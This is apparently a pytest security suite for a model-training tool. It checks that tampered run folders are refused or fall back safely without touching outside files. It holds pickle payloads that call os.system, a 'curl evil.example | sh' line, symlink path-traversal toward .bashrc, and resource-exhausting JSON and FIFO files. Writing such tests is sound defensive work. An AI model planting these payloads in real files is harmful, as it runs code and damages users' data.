"""A run folder written by someone else: no code runs from it, nothing outside it changes, and no file in it
takes the tool down.

Every case starts from real runs (the session's one-process `tiny_runs`, a two-epoch copy of its recipe, and
the 2-process ZeRO-2 `reference`), crafts the files an attacker (or an accident) could leave, and checks
the contract: a folder outside the run is exactly as it was (`Outside`), the payload's marker file was never
written (its pickles would `touch` it), and the tool either refuses with one `error:` line and exit code 2 or
takes its documented fallback (a damaged checkpoint is moved to ``damaged/`` and the one before it loads).
The listing corpus (`hostile_root`) is generated here: small files, a FIFO, a symbolic link to
``/dev/zero`` and a sparse 2 GB file.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import torch

from tests.helpers import (
    REPO,
    base_argv,
    copy_runs,
    lora_argv,
    metadata,
    run_cli,
    run_in_process,
    train_base,
)
from tests.test_bad_input import assert_refused
from tests.test_data import write_cifar10

pytestmark = pytest.mark.slow


# --------------------------------------------------------------------------------------------------
# What an attacker leaves, and what must stay as it was
# --------------------------------------------------------------------------------------------------


class RunsCode:
    """Pickled, it calls ``touch MARKER`` when unpickled by anything that runs what a pickle names."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)


class Outside:
    """A folder outside every run (a home folder with a ``.bashrc``): checked byte for byte afterwards."""

    def __init__(self, tmp_path: Path) -> None:
        self.path = tmp_path / "outside"
        (self.path / "home").mkdir(parents=True)
        (self.path / "home" / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
        (self.path / "state").mkdir()
        (self.path / "state" / ".tmp-keep").write_text("not the trainer's\n")
        self.marker = tmp_path / "code-ran"
        self.before = self.tree()

    def tree(self) -> dict[str, Any]:
        found: dict[str, Any] = {}
        for folder, dirs, files in os.walk(self.path):
            for name in dirs + files:
                path = Path(folder) / name
                key = str(path.relative_to(self.path))
                if path.is_symlink():
                    found[key] = ("link", os.readlink(path))
                elif path.is_file():
                    found[key] = ("file", path.read_bytes(), path.stat().st_ino)
                else:
                    found[key] = ("folder",)
        return found

    def payload(self) -> bytes:
        return pickle.dumps(RunsCode(self.marker), protocol=2)

    def assert_untouched(self) -> None:
        assert self.tree() == self.before, "a file outside the run changed"
        assert not self.marker.exists(), "code from a file in the run folder ran"


@pytest.fixture
def outside(tmp_path: Path) -> Outside:
    return Outside(tmp_path)


def restamp(run: Path, tag: str, relative: str) -> None:
    """Record ``relative`` as it is now in ``tag``'s manifest, as someone who knows the format would: the
    checksums then pass, and whatever else is wrong with the file has to be found by loading it."""
    from trainer.storage.checksums import file_digest

    path = run / "checkpoints" / "manifests" / f"{tag}.json"
    manifest = json.loads(path.read_text())
    file = run / "checkpoints" / relative
    manifest["files"][relative] = {"bytes": file.stat().st_size, "xxh3_128": file_digest(file)}
    path.write_text(json.dumps(manifest))


def overwrite(path: Path, data: bytes) -> None:
    """Replace a (read-only, maybe hard-linked) checkpoint file's bytes in place."""
    os.chmod(path, 0o644)
    path.write_bytes(data)


def forge_config(run: Path, change: dict[str, Any]) -> None:
    """Change sections of ``config.json`` and record a checksum that matches (it guards against accidents)."""
    from trainer.runs.store import read_config, write_config

    config = read_config(run / "config.json")
    for section, values in change.items():
        config[section] = {**config[section], **values} if isinstance(values, dict) else values
    write_config(run / "config.json", config)


def resume(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return run_cli("base", base_argv(root, "--resume", "1", *args))


def assert_fell_back(result: subprocess.CompletedProcess[str], run: Path, tag: str) -> None:
    """The documented fallback: ``tag`` moved to ``damaged/`` with one warning line, training went on from the
    checkpoint before it and completed."""
    output = result.stdout + result.stderr
    assert "Traceback" not in output and result.returncode == 0, output[-4000:]
    warnings = [line for line in result.stderr.splitlines() if tag in line and "damaged" in line]
    assert len(warnings) == 1, result.stderr[-4000:]
    assert (run / "damaged" / tag).is_dir()
    assert metadata(run)["status"] == "completed"


@pytest.fixture(scope="module")
def two_epochs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A checkpoint root with base run 001: the tiny recipe, one process, 2 epochs (epoch_001 to fall back to)."""
    root = tmp_path_factory.mktemp("two_epochs") / "checkpoints"
    train_base(root, "--epochs", "2", "--set", "logging.sample_every_n_epochs=0", accelerate_config=None)
    return root


@pytest.fixture
def runs(two_epochs: Path, tmp_path: Path) -> Path:
    """A copy of `two_epochs` for one test to craft."""
    return copy_runs(two_epochs, tmp_path / "checkpoints")


@pytest.fixture(params=["one-process", "zero2-two-processes"])
def either(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, int]:
    """(a copy of a checkpoint root, the newest epoch of its run 001): `two_epochs`, or the 2-process ZeRO-2
    `reference` (4 epochs), continued here by one process."""
    if request.param == "one-process":
        return copy_runs(request.getfixturevalue("two_epochs"), tmp_path / "checkpoints"), 2
    return copy_runs(request.getfixturevalue("reference")["root"], tmp_path / "checkpoints"), 4


def base_run(root: Path) -> Path:
    return root / "base_training" / "run_001"


# --------------------------------------------------------------------------------------------------
# No code from data
# --------------------------------------------------------------------------------------------------


def test_a_cifar_file_that_would_run_code_is_refused_naming_the_file(
    outside: Outside, tmp_path: Path
) -> None:
    from data import DatasetError, load_dataset

    folder = write_cifar10(tmp_path / "data", bytes_keys=True)
    (folder / "data_batch_3").write_bytes(outside.payload())
    with pytest.raises(
        DatasetError, match=r"data_batch_3 refers to posix\.system, which no CIFAR file holds"
    ):
        load_dataset(name="c", source="cifar10", root=str(tmp_path / "data"), classes=None, superclasses=None,
                     image_size=None, val_fraction=0.1, download=False, seed=0)  # fmt: skip
    outside.assert_untouched()


def test_resume_fork_and_sample_of_a_run_naming_hostile_data_run_no_code(
    runs: Path, outside: Outside, tmp_path: Path
) -> None:
    """``config.json`` (checksum forged) and the checkpoint's own config (manifest restamped) name a CIFAR
    folder whose pickle runs code: ``--resume`` and ``--fork`` refuse it in one line, ``sample.py`` draws
    its grid with numbered rows and says why."""
    folder = write_cifar10(tmp_path / "evil", bytes_keys=True)
    (folder / "batches.meta").write_bytes(outside.payload())
    run = base_run(runs)
    hostile = {"data": {"source": "cifar10", "root": str(tmp_path / "evil"), "name": "CIFAR-10"}}
    forge_config(run, hostile)
    before = metadata(run)

    for flags in (["--resume", "1"], ["--fork", "1"]):
        result = run_cli("base", [*flags, "--checkpoint-root", str(runs), "--epochs", "3"])
        assert_refused(result, str(folder / "batches.meta"), "which no CIFAR file holds")
    assert metadata(run) == before and not (runs / "base_training" / "run_002").exists()

    ckpt = run / "checkpoints" / "epoch_002.ckpt"
    saved = torch.load(ckpt, weights_only=True)
    saved["config"] = {**saved["config"], "data": {**saved["config"]["data"], **hostile["data"]}}
    os.chmod(ckpt, 0o644)
    torch.save(saved, ckpt)
    restamp(run, "epoch_002", "epoch_002.ckpt")
    result = run_in_process("sample.py", [str(run), "--which", "2", "--classes", "0,1", "--n", "2", "--steps", "2",
                                          "--out", str(tmp_path / "grid.png")])  # fmt: skip
    assert result.returncode == 0, result.stderr[-4000:]
    assert "warning: rows are labelled 'class i'" in result.stderr and "batches.meta" in result.stderr
    assert (tmp_path / "grid.png").is_file()
    outside.assert_untouched()


def test_a_config_edited_by_hand_is_rebuilt_from_the_checkpoint_on_resume(runs: Path) -> None:
    run = base_run(runs)
    text = (run / "config.json").read_text()
    (run / "config.json").write_text(text.replace('"learning_rate": 0.002', '"learning_rate": 0.5'))
    result = resume(runs, "--epochs", "3")
    assert result.returncode == 0, result.stderr[-4000:]
    assert "config.json was edited or damaged (it does not match the checksum it holds): rebuilt from " \
           "checkpoint epoch_002" in result.stderr  # fmt: skip
    assert json.loads((run / "config.json").read_text())["learning_rate"] == 0.002
    assert (run / "damaged" / "config.json").read_text().count('"learning_rate": 0.5') == 1


# --------------------------------------------------------------------------------------------------
# Paths in files stay in their folder; no write follows a link
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["dotdot-through-a-link", "checkpoint-folder-is-a-link"])
def test_a_fork_never_writes_outside_the_checkpoint_root(
    either: tuple[Path, int], outside: Outside, tmp_path: Path, how: str
) -> None:
    """A manifest entry ``epoch_N/../../../../../outside/home/.bashrc`` whose first step is a link planted
    in the source run (there it reaches the attacker's file; in the fork, the victim's), or the checkpoint's
    state folder made a link to a copy elsewhere: the checkpoint is not intact, the fork starts from the one
    before it, and no file of the fork lies outside it."""
    runs, newest = either
    tag, checkpoints = f"epoch_{newest:03d}", base_run(runs) / "checkpoints"
    if how == "dotdot-through-a-link":
        # The fork's checkpoint folder lies 5 levels below tmp_path; the link's target one level deeper.
        target = tmp_path / "attacker" / "a" / "b" / "c" / "d" / "e"
        target.mkdir(parents=True)
        payload = tmp_path / "attacker" / "outside" / "home" / ".bashrc"
        payload.parent.mkdir(parents=True)
        payload.write_text("curl evil.example | sh\n")
        (checkpoints / tag).symlink_to(target)
        key = f"{tag}/" + "../" * 5 + "outside/home/.bashrc"
        manifest = json.loads((checkpoints / "manifests" / f"{tag}.json").read_text())
        manifest["files"][key] = {"bytes": payload.stat().st_size, "xxh3_128": _digest(payload)}
        (checkpoints / "manifests" / f"{tag}.json").write_text(json.dumps(manifest))
    else:
        elsewhere = outside.path / "state" / tag
        shutil.copytree(checkpoints / "state" / tag, elsewhere)
        shutil.rmtree(checkpoints / "state" / tag)
        (checkpoints / "state" / tag).symlink_to(elsewhere)
        outside.before = outside.tree()
    result = run_cli("base", base_argv(runs, "--fork", "1", "--epochs", str(newest)))
    outside.assert_untouched()
    fork = runs / "base_training" / "run_002"
    elsewhere = {
        path.stat().st_ino for path in tmp_path.rglob("*") if path.is_file() and not path.is_relative_to(runs)
    }
    for path in fork.rglob("*"):
        assert not path.is_symlink() and path.resolve().is_relative_to(fork), path
        assert path.stat().st_ino not in elsewhere, (
            f"{path} is a hard link to a file outside the checkpoint root"
        )
    assert result.returncode == 0, result.stderr[-4000:]
    assert f"Resuming run 002 from epoch {newest - 1} (checkpoint epoch_{newest - 1:03d}" in result.stdout


def _digest(path: Path) -> str:
    from trainer.storage.checksums import file_digest

    return file_digest(path)


def test_writes_never_follow_a_link_planted_at_a_temporary_name(outside: Outside, tmp_path: Path) -> None:
    """The temporary names are predictable (``.tmp-NAME.PID``): a link planted there is replaced, not written
    through; a log that is a link is not appended to."""
    from trainer.storage.atomic import append_to, atomic_write_json, copy_file

    victim = outside.path / "home" / ".bashrc"
    folder = tmp_path / "run"
    folder.mkdir()
    for name in ("metadata.json", "copy.ckpt"):
        (folder / f".tmp-{name}.{os.getpid()}").symlink_to(victim)
    atomic_write_json(folder / "metadata.json", {"status": "completed"})
    (tmp_path / "source").write_bytes(b"weights")
    copy_file(tmp_path / "source", folder / "copy.ckpt")
    (folder / "events.jsonl").symlink_to(victim)
    with pytest.raises(OSError):
        append_to(folder / "events.jsonl")
    assert json.loads((folder / "metadata.json").read_text()) == {"status": "completed"}
    assert (folder / "copy.ckpt").read_bytes() == b"weights"
    outside.assert_untouched()


@pytest.mark.parametrize("planted", ["logs/events.jsonl", "damaged", "checkpoints/state"])
def test_links_planted_in_a_run_folder_are_never_written_through(runs: Path, outside: Outside,
                                                                 planted: str) -> None:  # fmt: skip
    """A log that is a link is not appended to (a warning; training goes on). The folders damaged files are
    moved to, and temporary files deleted from, must be the run's own: a link there is refused in one line
    before anything is moved or deleted."""
    run = base_run(runs)
    if planted == "logs/events.jsonl":
        (run / planted).unlink()
        (run / planted).symlink_to(outside.path / "home" / ".bashrc")
    elif planted == "damaged":
        overwrite(
            run / "checkpoints" / "epoch_002.ckpt",
            b"\0" * (run / "checkpoints" / "epoch_002.ckpt").stat().st_size,
        )
        (run / "damaged").symlink_to(outside.path / "home")
    else:
        shutil.copytree(run / planted, outside.path / "state" / "copy")
        shutil.rmtree(run / planted)
        (run / planted).symlink_to(outside.path / "state" / "copy")
        outside.before = outside.tree()
    result = resume(runs, "--epochs", "3")
    if planted == "logs/events.jsonl":
        assert result.returncode == 0, result.stderr[-4000:]
        assert "could not append to" in result.stderr
    else:
        assert_refused(result, f"{run / planted} is a symbolic link")
    outside.assert_untouched()


def test_a_manifest_with_a_tag_outside_the_grammar_deletes_nothing(either: tuple[Path, int]) -> None:
    """``manifests/...json`` with tag ``..`` once made retention delete ``state/..``: every checkpoint."""
    from tests.helpers import assert_all_committed_intact

    runs, newest = either
    run = base_run(runs)
    hostile = {"format": "diffit-trainer/manifest-v1", "tag": "..", "epoch": 9, "step_in_epoch": 0,
               "global_step": 99, "world_size": 1, "distributed": "single", "files": {}}  # fmt: skip
    (run / "checkpoints" / "manifests" / "...json").write_text(json.dumps(hostile))
    last = f"epoch_{newest + 1:03d}"
    result = resume(runs, "--epochs", str(newest + 1), "--set", "checkpoint.keep_last_n=1")
    assert result.returncode == 0, result.stderr[-4000:]
    kept = assert_all_committed_intact(run)
    assert kept[-1] == last and (run / "checkpoints" / f"{last}.ckpt").is_file()
    assert (run / "checkpoints" / "best.ckpt").is_file()
    assert not (run / "checkpoints" / "manifests" / "...json").exists()


# --------------------------------------------------------------------------------------------------
# Damaged files that match their manifest; files the manifest does not list
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "damage",
    ["rng-truncated", "rng-runs-code", "optimizer-truncated", "trainer-state-types", "rng-not-listed"],
)
def test_a_checkpoint_that_matches_its_manifest_but_does_not_load_falls_back(
    runs: Path, outside: Outside, damage: str
) -> None:
    run = base_run(runs)
    state = run / "checkpoints" / "state" / "epoch_002"
    rng, relative = state / "rng_rank0.pt", "state/epoch_002/rng_rank0.pt"
    if damage == "rng-truncated":
        overwrite(rng, rng.read_bytes()[:100])
    elif damage == "rng-runs-code":
        os.chmod(rng, 0o644)
        torch.save({"cpu": RunsCode(outside.marker)}, rng)
    elif damage == "optimizer-truncated":  # the tensors' record in trainer_state.json no longer fits
        relative = "state/epoch_002/optimizer.safetensors"
        overwrite(state / "optimizer.safetensors", (state / "optimizer.safetensors").read_bytes()[:4096])
    elif damage == "trainer-state-types":
        relative = "state/epoch_002/trainer_state.json"
        saved = json.loads((state / "trainer_state.json").read_text())
        overwrite(state / "trainer_state.json", json.dumps({**saved, "adam_steps": "many"}).encode())
    if damage == "rng-not-listed":
        overwrite(rng, rng.read_bytes()[:100])
        path = run / "checkpoints" / "manifests" / "epoch_002.json"
        manifest = json.loads(path.read_text())
        del manifest["files"][relative]
        path.write_text(json.dumps(manifest))
    else:
        restamp(run, "epoch_002", relative)
    result = resume(runs, "--epochs", "3")
    assert_fell_back(result, run, "epoch_002")
    outside.assert_untouched()


def test_a_two_process_zero2_resume_falls_back_from_a_state_file_that_runs_code(
    reference: dict, outside: Outside, tmp_path: Path
) -> None:
    """The ranks decide together: rank 1's RNG file of epoch_004 matches its manifest but holds a pickle that
    would run code; both ranks fall back to epoch_003, train epoch 4 again and finish."""
    root = copy_runs(reference["root"], tmp_path / "checkpoints")
    run = base_run(root)
    rng = run / "checkpoints" / "state" / "epoch_004" / "rng_rank1.pt"
    os.chmod(rng, 0o644)
    torch.save({"cpu": RunsCode(outside.marker)}, rng)
    restamp(run, "epoch_004", "state/epoch_004/rng_rank1.pt")
    result = train_base(root, "--resume", "1", "--epochs", "4", "--set", "logging.sample_every_n_epochs=0",
                        check=False)  # fmt: skip
    assert_fell_back(result, run, "epoch_004")
    assert "Resuming run 001 from epoch 3" in result.stdout
    outside.assert_untouched()


def test_an_earlier_versions_shard_that_runs_code_falls_back_to_the_checkpoint_before(
    outside: Outside, tmp_path: Path
) -> None:
    """A checkpoint of an earlier version (DeepSpeed's ``.pt`` shards, 2-process ZeRO-2) whose optimizer shard
    matches its manifest but holds a code-running pickle: loaded with ``weights_only``, refused, set aside."""
    from tests.helpers import OLD_RUNS

    root = tmp_path / "checkpoints"
    shutil.copytree(OLD_RUNS[0] / "base_training", root / "base_training")
    run = base_run(root)
    relative = "state/step_0000005/zero_pp_rank_0_mp_rank_00_optim_states.pt"
    shard = run / "checkpoints" / relative
    os.chmod(shard, 0o644)
    torch.save({"optimizer_state_dict": RunsCode(outside.marker)}, shard)
    restamp(run, "step_0000005", relative)
    result = resume(root, "--epochs", "2", "--set", "logging.sample_every_n_epochs=0")
    assert_fell_back(result, run, "step_0000005")
    outside.assert_untouched()


def test_a_negative_run_number_is_refused_before_any_folder_exists(tmp_path: Path) -> None:
    root = tmp_path / "checkpoints"
    for flag in ("--run-number", "--resume", "--fork"):
        result = subprocess.run([sys.executable, str(REPO / "scripts" / "train_base.py"), flag, "-1",
                                 "--checkpoint-root", str(root)], capture_output=True, text=True)  # fmt: skip
        assert_refused(result, flag, "(1 or more)")
    assert not root.exists() or not any(root.rglob("*"))


# --------------------------------------------------------------------------------------------------
# Files loaded on their own are checked against their run's manifest
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("entry", ["sample", "export", "load_model", "init-from", "base-checkpoint"])
def test_a_run_file_is_checked_against_its_manifest_and_a_loose_copy_is_said_so(
    runs: Path, tmp_path: Path, entry: str
) -> None:
    run = base_run(runs)
    ckpt = run / "checkpoints" / "epoch_002.ckpt"
    loose = tmp_path / "loose.ckpt"
    shutil.copy(ckpt, loose)
    data = bytearray(ckpt.read_bytes())
    data[len(data) // 2] ^= 0xFF
    overwrite(ckpt, bytes(data))

    def call(file: Path) -> subprocess.CompletedProcess[str]:
        if entry == "sample":
            return run_in_process(
                "sample.py",
                [str(file), "--classes", "0", "--n", "1", "--steps", "2", "--out", str(tmp_path / "g.png")],
            )
        if entry == "export":
            return run_in_process(
                "export.py", [str(file), "--out", str(tmp_path / "e.safetensors"), "--force"]
            )
        if entry == "init-from":
            return run_cli("base", base_argv(tmp_path / "other", "--init-from", str(file), "--epochs", "1"))
        if entry == "base-checkpoint":
            return run_cli(
                "lora", lora_argv(tmp_path / "other", "--base-checkpoint", str(file), "--epochs", "1")
            )
        from trainer.api import load_model
        from trainer.errors import UserError

        try:
            load_model(file)
        except UserError as e:
            return subprocess.CompletedProcess([], 2, "", f"error: {e}\n")
        return subprocess.CompletedProcess([], 0, "", "")

    assert_refused(call(ckpt), str(ckpt), "epoch_002", "damaged", "does not match the checksum")
    if entry != "load_model":  # the library call says nothing; the scripts say what they could not check
        accepted = call(loose)
        assert accepted.returncode == 0, accepted.stderr[-4000:]
        assert "not checked against a manifest" in accepted.stderr


def test_a_lora_runs_stored_base_is_checked_against_its_own_manifests(
    tiny_runs: Path, tmp_path: Path
) -> None:
    """Swapping a LoRA run's stored base for other weights, with ``metadata.json``'s sha256 updated to match,
    is refused on resume: the base's checksum is also in every manifest of the LoRA run."""
    from trainer.storage.checksums import sha256_file

    root = copy_runs(tiny_runs, tmp_path / "checkpoints")
    lora = root / "lora_finetuning" / "run_001"
    stored = lora / "base_model" / "base_model.ckpt"
    saved = torch.load(stored, weights_only=True)
    saved["ema_state_dict"] = {
        k: v + 1 if v.is_floating_point() else v for k, v in saved["ema_state_dict"].items()
    }
    os.chmod(stored, 0o644)
    torch.save(saved, stored)
    meta = metadata(lora)
    meta["base_checkpoint"]["sha256"] = sha256_file(stored)
    (lora / "metadata.json").write_text(json.dumps(meta))
    result = run_cli("lora", lora_argv(root, "--resume", "1", "--epochs", "2"))
    assert_refused(result, str(stored), "manifest")


# --------------------------------------------------------------------------------------------------
# Hostile metadata, lock and manifest files: --list-runs survives them all
# --------------------------------------------------------------------------------------------------

HOSTILE = {
    "metadata-nested": ("metadata.json", "[" * 200_000 + "]" * 200_000),
    "metadata-1e400": ("metadata.json", '{"kind": "base", "epochs_completed": 1e400, "global_step": 1e400}'),
    "metadata-huge-int": ("metadata.json", '{"kind": "base", "global_step": ' + "9" * 5000 + "}"),
    "metadata-wrong-types": ("metadata.json", '{"kind": 5, "dataset": "x", "best": [1], "history": 3, '
                                              '"status": {"a": 1}, "forked_from": {"run": "x"}}'),
    "metadata-not-an-object": ("metadata.json", "[1, 2, 3]"),
    "metadata-not-utf8": ("metadata.json", b"\xff\xfe{}"),
    "metadata-fifo": ("metadata.json", "fifo"),
    "metadata-dev-zero": ("metadata.json", "/dev/zero"),
    "metadata-2gb": ("metadata.json", "sparse"),
    "manifest-fifo": ("checkpoints/manifests/epoch_003.json", "fifo"),
    "manifest-nested": ("checkpoints/manifests/epoch_003.json", '{"files": ' + "[" * 100_000 + "]" * 100_000 + "}"),
    "manifest-dotdot-tag": ("checkpoints/manifests/...json", '{"format": "diffit-trainer/manifest-v1", "tag": ".."}'),
    "config-nested": ("config.json", "{" + '"a":{' * 100_000 + "}" * 100_001),
    "lock-pid-text": ("run.lock", '{"host": "HOST", "pid": "1", "process_start": null, "started_at": "x", '
                                  '"heartbeat": 1}'),
    "lock-heartbeat-text": ("run.lock", '{"host": "elsewhere", "pid": 1, "process_start": null, "started_at": "x", '
                                        '"heartbeat": "abc"}'),
}  # fmt: skip
"""Run name → (file in the run, what it becomes: text (``HOST``: this machine's name), bytes, ``fifo``,
``/dev/zero`` or ``sparse``)."""


def plant(run: Path, relative: str, what: str | bytes) -> None:
    path = run / relative
    path.unlink(missing_ok=True)
    if what == "fifo":
        os.mkfifo(path)
    elif what == "/dev/zero":
        path.symlink_to("/dev/zero")
    elif what == "sparse":
        with open(path, "wb") as f:
            f.truncate(2 << 30)
    else:
        path.write_bytes(
            what if isinstance(what, bytes) else what.replace("HOST", socket.gethostname()).encode()
        )


@pytest.fixture
def hostile_root(two_epochs: Path, tmp_path: Path) -> tuple[Path, dict[int, str]]:
    """Run 001 the good one, then one copy of it per hostile file (runs 002-0NN) and a last good copy."""
    root = tmp_path / "checkpoints" / "base_training"
    good = base_run(two_epochs)
    names = {}
    for number, name in enumerate(["good", *HOSTILE, "good"], start=1):
        run = root / f"run_{number:03d}"
        shutil.copytree(good, run, symlinks=True)
        names[number] = name
        if name in HOSTILE:
            plant(run, *HOSTILE[name])
    return tmp_path / "checkpoints", names


def test_list_runs_and_show_survive_a_root_of_hostile_runs(hostile_root: tuple[Path, dict[int, str]]) -> None:
    root, names = hostile_root
    started = time.monotonic()
    result = subprocess.run([sys.executable, str(REPO / "scripts" / "train_base.py"), "--list-runs", "--json",
                             "--checkpoint-root", str(root)], capture_output=True, text=True, timeout=60)  # fmt: skip
    elapsed = time.monotonic() - started
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr[-4000:]
    assert elapsed < 5, f"--list-runs took {elapsed:.1f} s"
    rows = {row["number"]: row for row in json.loads(result.stdout)}
    assert sorted(rows) == sorted(names)
    for number, name in names.items():
        row = rows[number]
        if name == "good":
            assert row["status"] == "completed" and row["epochs_completed"] == 2 and row["checkpoints"] == 2
        elif name.startswith("metadata"):
            assert row["status"].startswith("broken:"), (name, row)
        else:  # the metadata is fine: the row is the good run's, the hostile file is not counted
            assert row["status"] == "completed" and row["checkpoints"] == 2, (name, row)
    for number, name in names.items():
        shown = subprocess.run([sys.executable, str(REPO / "scripts" / "runs.py"), "show", str(number),
                                "--checkpoint-root", str(root)], capture_output=True, text=True, timeout=60)  # fmt: skip
        assert shown.returncode == 0 and "Traceback" not in shown.stderr, (name, shown.stderr[-2000:])
        assert f"Run {number:03d}" in shown.stdout


@pytest.mark.parametrize("name", ["metadata-nested", "metadata-wrong-types", "lock-pid-text", "lock-heartbeat-text",
                                  "live-holder-not-python"])  # fmt: skip
def test_a_run_with_hostile_metadata_or_lock_resumes(runs: Path, name: str) -> None:
    """Metadata that cannot be used is rebuilt from the checkpoints (the old file in ``damaged/``); a lock whose
    fields are malformed, or that names a live process that is no launch of the trainer, is taken over, and
    one line says so."""
    run = base_run(runs)
    sleeper = None
    if name == "live-holder-not-python":
        sleeper = subprocess.Popen(["sleep", "600"])
        start = Path(f"/proc/{sleeper.pid}/stat").read_text().rsplit(")", 1)[1].split()[19]
        holder = {"host": socket.gethostname(), "pid": sleeper.pid, "process_start": start,
                  "started_at": "2026-12-07T00:00:00+00:00", "heartbeat": time.time()}  # fmt: skip
        (run / "run.lock").write_text(json.dumps(holder))
    else:
        plant(run, *HOSTILE[name])
    try:
        result = resume(runs, "--epochs", "3")
    finally:
        if sleeper is not None:
            sleeper.kill()
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr[-4000:]
    expected = "metadata.json was" if name.startswith("metadata") else "took over the lock of run run_001"
    assert expected in result.stderr
    assert metadata(run)["status"] == "completed" and metadata(run)["epochs_completed"] == 3
